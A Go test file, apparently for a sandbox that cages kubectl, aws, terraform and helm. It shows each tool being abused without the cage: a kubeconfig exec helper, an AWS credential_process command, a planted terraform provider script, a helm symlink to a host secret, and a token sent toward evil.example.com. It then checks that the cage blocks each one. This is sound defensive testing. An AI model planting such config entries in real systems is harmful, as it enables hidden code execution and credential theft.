//go:build linux

package reach

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"bailey"
	"bailey/internal/ktest"
	"bailey/internal/sigv4"
	"bailey/pack"
)

// outside runs a tool without a cage, to show that an attack works.
func outside(t *testing.T, dir string, env []string, command string, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, command, args...)
	cmd.Dir, cmd.Env = dir, append([]string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=" + t.TempDir()}, env...)
	out, _ := cmd.CombinedOutput() // the tool may fail; only its effects count
	return string(out)
}

func (s *service) saw(words string) bool {
	for _, r := range s.requests() {
		if strings.Contains(fmt.Sprint(r), words) {
			return true
		}
	}
	return false
}

// TestKubeconfigRunsNothing checks that a token program named in a kubeconfig does not run, and that no other server is
// reached.
func TestKubeconfigRunsNothing(t *testing.T) {
	ktest.Long(t)
	w := newWorld(t)
	kubectl := installed(t, "kubectl")
	s := w.answering(kubeAnswers, "kube.example.com", "evil.example.com")
	helper := `{exec: {apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never, command: /usr/bin/printf, args: ['{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"ran"}}']}}`
	config := w.kubeconfig("https://kube.example.com", helper)

	w.mu.Lock()
	at := w.places["93.184.216.100:443"]
	w.mu.Unlock()
	live := filepath.Join(t.TempDir(), "config")
	text := strings.Replace(config, `server: "https://kube.example.com"`, `server: "https://`+at+`", tls-server-name: kube.example.com`, 1)
	if err := os.WriteFile(live, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	out := outside(t, "/", []string{"KUBECONFIG=" + live}, kubectl, "get", "--raw", "/version")
	if !s.saw("Bearer ran") {
		t.Fatalf("not live: plain kubectl does not run the helper:\n%s", out)
	}

	before := len(s.requests())
	input := map[string]any{"kind": "pods", "server": "https://kube.example.com"}
	if r := w.look("kubectl.get", input, map[string]string{"kubeconfig": config}); r.exit.Code == 0 || len(s.requests()) != before {
		t.Errorf("exit %d, asked %v\n%s", r.exit.Code, s.requests()[before:], r)
	}
	r := w.look("kubectl.get", input, map[string]string{"kubeconfig": w.kubeconfig("https://evil.example.com", "{token: the-bearer}")})
	if r.exit.Code == 0 || len(s.requests()) != before {
		t.Errorf("exit %d, asked %v\n%s", r.exit.Code, s.requests()[before:], r)
	}
	r.refused(t, "egress to evil.example.com:443 is not allowed")
}

// TestAwsCredentialsRunNothing checks that a program named in a credentials file does not run.
func TestAwsCredentialsRunNothing(t *testing.T) {
	ktest.Long(t)
	w := newWorld(t)
	aws := installed(t, "aws")
	s := w.answering(map[string]string{}, "sts.eu-west-1.amazonaws.com")
	dir := t.TempDir()
	marker, file := filepath.Join(dir, "marker"), filepath.Join(dir, "credentials")
	config := "[default]\ncredential_process = /usr/bin/touch " + marker + "\n"
	if err := os.WriteFile(file, []byte(config), 0o600); err != nil {
		t.Fatal(err)
	}
	out := outside(t, dir, []string{"AWS_SHARED_CREDENTIALS_FILE=" + file, "AWS_CONFIG_FILE=/dev/null", "AWS_EC2_METADATA_DISABLED=true"}, aws,
		"sts", "get-caller-identity", "--region=eu-west-1", "--endpoint-url=http://127.0.0.1:1")
	if _, err := os.Stat(marker); err != nil {
		t.Fatalf("not live: plain aws does not run the program:\n%s", out)
	}
	if err := os.Remove(marker); err != nil {
		t.Fatal(err)
	}
	lent := map[string]string{"aws-credentials": config + "aws_access_key_id = AKIDEXAMPLE\naws_secret_access_key = the-secret-key\n"}
	w.look("aws.caller-identity", map[string]any{"region": "eu-west-1"}, lent)
	if _, err := os.Stat(marker); err == nil {
		t.Error("the program ran")
	}
	all := s.requests()
	if len(all) == 0 || signatureFault(all[0], sigv4.Credentials{ID: "AKIDEXAMPLE", Secret: "the-secret-key"}) != "" {
		t.Errorf("asked %v", all)
	}
	want := bailey.Want{Name: "aws-credentials", Inject: &bailey.InjectWant{Sign: bailey.SignAWS}}
	if _, _, err := pack.SignOutside(want, bailey.NewSecret(config)); !errors.Is(err, bailey.Invalid) || bailey.HintOf(err) == "" {
		t.Errorf("a file without keys: %v", err)
	}
}

// TestTerraformRunsNoProvider checks that a provider in the workspace, which is a program that validate would start,
// does not run.
func TestTerraformRunsNoProvider(t *testing.T) {
	ktest.Long(t)
	w := newWorld(t)
	terraform := installed(t, "terraform")
	dir := t.TempDir()
	marker := filepath.Join(t.TempDir(), "marker")
	provider := filepath.Join(dir, "plugins/example.com/x/y/1.0.0", strings.TrimSpace(said(t, "go", "env", "GOOS"))+"_"+strings.TrimSpace(said(t, "go", "env", "GOARCH")), "terraform-provider-y_v1.0.0")
	files := map[string]string{
		provider:                      "#!/bin/sh\ntouch " + marker + "\n",
		filepath.Join(dir, "main.tf"): "terraform {\n  required_providers {\n    y = { source = \"example.com/x/y\" }\n  }\n}\nresource \"y_thing\" \"a\" {}\n",
	}
	for name, text := range files {
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	env := []string{"CHECKPOINT_DISABLE=1"}
	out := outside(t, dir, env, terraform, "init", "-plugin-dir="+filepath.Join(dir, "plugins"))
	out += outside(t, dir, env, terraform, "validate")
	if _, err := os.Stat(marker); err != nil {
		t.Fatalf("not live: plain terraform does not start the provider:\n%s", out)
	}
	os.Remove(marker)
	r := w.look("terraform.validate", map[string]any{"dir": dir}, nil)
	if _, err := os.Stat(marker); err == nil || r.exit.Code == 0 || !strings.Contains(r.String(), "permission denied") {
		t.Errorf("exit %d\n%s", r.exit.Code, r)
	}
}

// TestHelmReadsItsChart checks that a chart is read, but not the target of a link in it.
func TestHelmReadsItsChart(t *testing.T) {
	w := newWorld(t)
	helm := installed(t, "helm")
	dir, secret := filepath.Join(t.TempDir(), "web"), filepath.Join(t.TempDir(), "secret")
	for name, text := range map[string]string{
		secret:                                 "of the host",
		filepath.Join(dir, "Chart.yaml"):       "apiVersion: v2\nname: web\nversion: 1.0.0\n",
		filepath.Join(dir, "templates/a.yaml"): "kind: ConfigMap\napiVersion: v1\ndata: {found: '{{ .Files.Get \"files/link\" }}', seen: '{{ lookup \"v1\" \"Secret\" \"\" \"\" }}'}\n",
		filepath.Join(dir, "files/here"):       "x",
	} {
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	chart := map[string]any{"dir": dir, "chart": ".", "release": "web"}
	w.look("helm.template", chart, nil).says(t, "kind: ConfigMap")
	w.look("helm.show", map[string]any{"dir": dir, "chart": ".", "what": "chart"}, nil).says(t, "name: web")
	if err := os.Symlink(secret, filepath.Join(dir, "files/link")); err != nil {
		t.Fatal(err)
	}
	if out := outside(t, dir, nil, helm, "template", "release", dir); !strings.Contains(out, "of the host") {
		t.Fatalf("not live: plain helm does not follow a link:\n%s", out)
	}
	if r := w.look("helm.template", chart, nil); strings.Contains(r.String(), "of the host") {
		t.Errorf("exit %d\n%s", r.exit.Code, r)
	}
}

// TestTerraformLooks checks that commands that need no provider work on the existing files.
func TestTerraformLooks(t *testing.T) {
	ktest.Long(t)
	w := newWorld(t)
	dir := t.TempDir()
	for name, text := range map[string]string{
		"main.tf":           "variable \"x\" {}\noutput \"y\" {\n  value = var.x\n}\n",
		"bad.tf":            "locals {\n    a=1\n}\n",
		"terraform.tfstate": `{"version":4,"terraform_version":"1.5.0","serial":1,"lineage":"a","outputs":{"y":{"value":"the value","type":"string"}},"resources":[{"mode":"managed","type":"y_thing","name":"a","provider":"provider[\"example.com/x/y\"]","instances":[{"schema_version":0,"attributes":{}}]}]}`,
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	in := map[string]any{"dir": dir}
	w.look("terraform.version", nil, nil).says(t, "Terraform v")
	w.look("terraform.fmt-check", in, nil).says(t, "bad.tf")
	w.look("terraform.validate", in, nil).says(t, "Success")
	w.look("terraform.providers", in, nil).says(t, "example.com/x/y")
	w.look("terraform.state-list", in, nil).says(t, "y_thing.a")
	w.look("terraform.output", in, nil).says(t, "the value")
	w.look("terraform.output", map[string]any{"dir": dir, "name": "y", "raw": true}, nil).says(t, "the value")
	w.look("terraform.workspace-list", in, nil).says(t, "default")
}
